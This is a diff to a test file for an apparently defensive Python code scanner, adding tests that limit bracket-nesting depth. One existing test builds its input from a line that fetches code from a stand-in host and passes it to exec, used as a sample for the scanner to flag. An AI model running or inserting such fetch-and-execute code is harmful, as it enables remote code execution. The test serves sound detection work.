@@ -13,6 +13,7 @@ import pytest
 
 from tests.scanning.python_sightings import checks, limits, read
 from vskill_platform.scanning.tier1.code.python import evaluation
+from vskill_platform.scanning.tier1.code.python.bounds import DEEPEST_BRACKETS, Refused, ensure_bounded
 from vskill_platform.scanning.tier1.code.python.finder import MOST_NODES
 from vskill_platform.scanning.tier1.code.python.notes import MOST_FACTS, MOST_PLACES
 from vskill_platform.scanning.tier1.skill import Fact, Sighting
@@ -121,3 +122,21 @@ def test_places_and_facts_are_bounded() -> None:
 def test_long_line_costs_no_more__for_being_hit_often() -> None:
     source = "import requests;" + "exec(requests.get('https://c.example').text);" * 2_000
     assert sum(isinstance(each, Sighting) for each in read(source)) == 1
+
+
+@pytest.mark.parametrize(
+    ("before", "behind", "outer"),
+    [("", "", 0), ("(", ")", 1), ("[()](", ")", 1), ("))", "", 0), ("", "((", 0), ("()" * DEEPEST_BRACKETS, "", 0)],
+)
+def test_brackets_are_refused__only_where_they_go_deeper_than_is_looked_at(
+    before: str, behind: str, outer: int
+) -> None:
+    depth = DEEPEST_BRACKETS - outer
+    ensure_bounded(before + "[" * depth + "]" * depth + behind)
+    with pytest.raises(Refused):
+        ensure_bounded(before + "{" * (depth + 1) + "}" * (depth + 1) + behind)
+
+
+@pytest.mark.parametrize("depth", [1, 11, 12, 13])
+def test_many_brackets_are_read__where_they_go_no_deeper_than_code_does(depth: int) -> None:
+    ensure_bounded(("(" * depth + ")" * depth) * DEEPEST_BRACKETS)
